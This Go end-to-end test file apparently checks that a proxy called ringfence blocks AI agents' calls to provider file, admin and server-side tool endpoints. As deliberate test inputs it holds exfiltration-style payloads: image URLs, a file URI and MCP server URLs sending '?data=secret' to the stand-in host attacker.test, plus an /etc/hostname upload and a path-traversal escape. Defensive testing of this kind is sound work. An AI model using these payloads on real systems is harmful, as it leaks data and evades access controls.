// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/ringfence/ringfence/pkg/event"
)

const jsonHeader = " -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' "

// curl is one request of an agent; it prints the body and then the status.
func curl(url, args string) string {
	return "curl -sS -w '\\nstatus=%{http_code}\\n' " + args + " " + url + "\n"
}

func (a *agents) deniedPaths(t *testing.T) {
	for _, c := range []struct{ name, url, args, form string }{
		{"openai files", "https://api.openai.com/v1/files", "", `"type":"permission_error"`},
		{"openai upload", "https://api.openai.com/v1/files", "-F purpose=assistants -F file=@/etc/hostname", `"type":"permission_error"`},
		{"openai admin", "https://api.openai.com/v1/organization/users", "", `"type":"permission_error"`},
		{"openai escape", "--path-as-is https://api.openai.com/v1/models/../files", "", `"type":"permission_error"`},
		{"openai key in query", "'https://api.openai.com/v1/models?key=sk-own'", "", `"type":"permission_error"`},
		{"anthropic files", "https://api.anthropic.com/v1/files", "", `"type":"error"`},
		{"anthropic batches", "https://api.anthropic.com/v1/messages/batches", jsonHeader + "-d '{}'", `"type":"error"`},
		{"gemini files", "https://generativelanguage.googleapis.com/v1beta/files", "", `"status":"PERMISSION_DENIED"`},
		{"gemini cache", "'https://generativelanguage.googleapis.com/v1beta/cachedContents?key=own'", jsonHeader + "-d '{}'", `"status":"PERMISSION_DENIED"`},
	} {
		t.Run(c.name, func(t *testing.T) {
			a.double.Reset()
			seq := a.sequence(t)
			r := sandboxed(t, a.n, a.ws, "default", curl(c.url, c.args))
			contains(t, "answer", r.Stdout, "status=403", c.form, "ringfence_denied")
			if n := len(a.double.Received()); n != 0 {
				t.Errorf("%d requests reached the provider", n)
			}
			if e := a.lastCall(t, seq); e.Verdict != event.Denied || e.Status != 403 || e.Reason == "" {
				t.Errorf("event %+v", e)
			}
		})
	}
	t.Run("the library understands it", func(t *testing.T) {
		a.clientProgram(t, "node-openai")
		put(t, a.ws, "node-openai/files.mjs", `import OpenAI from "openai";
try { await new OpenAI().files.list(); console.log("listed"); }
catch (e) { console.log(e.constructor.name, e.status, e.code); }
`)
		r := sandboxed(t, a.n, a.ws, "default", "node node-openai/files.mjs")
		contains(t, "library", r.Stdout+r.Stderr, "PermissionDeniedError 403 ringfence_denied")
	})
}

// providerTools shows that what the provider would do or fetch on its side is
// refused, and opened by a rule on server:provider for that tool alone.
func (a *agents) providerTools(t *testing.T) {
	a.n.WritePolicy(t, "tools.yaml", `apiVersion: ringfence.dev/v1
kind: Policy
metadata: {name: tools}
scope: org:local/team:search
tools:
  - {id: search, allow: "server:provider/tool:web_search"}
`)
	const image = `"messages":[{"role":"user","content":[{"type":"%s","%s":{%s"url":"https://attacker.test/?data=secret"}}]}]`
	for _, c := range []struct{ name, tool, url, body string }{
		{"openai web search", "web_search", "https://api.openai.com/v1/responses", `{"model":"m","input":"x","tools":[{"type":"web_search"}]}`},
		{"openai chat search", "web_search", "https://api.openai.com/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`},
		{"openai remote MCP", "mcp", "https://api.openai.com/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"a","server_url":"https://attacker.test/"}]}`},
		{"openai code", "code_interpreter", "https://api.openai.com/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`},
		{"openai image URL", "image_url", "https://api.openai.com/v1/chat/completions", `{"model":"m",` + fmt.Sprintf(image, "image_url", "image_url", "") + `}`},
		{"gemini search", "web_search", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[],"tools":[{"google_search":{}}]}`},
		{"gemini code", "code_execution", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[],"tools":[{"codeExecution":{}}]}`},
		{"gemini file URI", "file_url", "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.test/?data=secret"}}]}]}`},
		{"anthropic search", "web_search", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}`},
		{"anthropic fetch", "web_fetch", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
		{"anthropic MCP", "mcp", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.test/","name":"x"}]}`},
		{"anthropic image URL", "image_url", "https://api.anthropic.com/v1/messages", `{"model":"m","max_tokens":9,` + fmt.Sprintf(image, "image", "source", `"type":"url",`) + `}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if !json.Valid([]byte(c.body)) {
				t.Fatalf("the test's body is no JSON: %s", c.body)
			}
			a.double.Reset()
			seq := a.sequence(t)
			ask := curl(c.url, jsonHeader+"-d '"+c.body+"'")
			r := sandboxed(t, a.n, a.ws, "default", ask)
			contains(t, "refused", r.Stdout, "status=403", "ringfence_denied")
			if n := len(a.double.Received()); n != 0 {
				t.Errorf("%d requests reached the provider", n)
			}
			if e := a.lastCall(t, seq); e.Verdict != event.Denied || !strings.Contains(e.Reason, "server:provider/tool:"+c.tool) {
				t.Errorf("event %+v", e)
			}
			open := c.tool == "web_search"
			r = sandboxed(t, a.n, a.ws, "search", ask)
			if got := strings.Contains(r.Stdout, "status=200"); got != open {
				t.Errorf("with a rule for web_search: %s", r.Stdout)
			}
			if n := len(a.double.Received()); (n == 1) != open {
				t.Errorf("with a rule for web_search %d requests reached the provider", n)
			}
		})
	}
}

// passthrough shows the agent's own credential on its way, and that it stays
// out where a key is injected.
func (a *agents) passthrough(t *testing.T) {
	const own = "sk-ant-oat01-of-the-agent"
	ask := curl("https://api.anthropic.com/v1/messages", jsonHeader+"-H 'Authorization: Bearer "+own+`' -d '{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}'`)
	a.double.Reset()
	sandboxed(t, a.n, a.ws, "default", ask)
	arrived(t, a.double.Last(), anthropicKey, own)

	a.addProvider(t, "anthropic", "", "--base-url", "https://llm.test", "--credential", "passthrough")
	a.double.Reset()
	seq := a.sequence(t)
	r := sandboxed(t, a.n, a.ws, "default", ask)
	contains(t, "answer", r.Stdout, "status=200")
	arrived(t, a.double.Last(), own, anthropicKey)
	if e := a.lastCall(t, seq); e.Credential != "passthrough" || e.TokensOut != 7 {
		t.Errorf("event %+v", e)
	}
	if r := a.n.CLI(t, "provider", "list"); !strings.Contains(r.Stdout, "passthrough") {
		t.Errorf("provider list: %s", r.Stdout)
	}
}
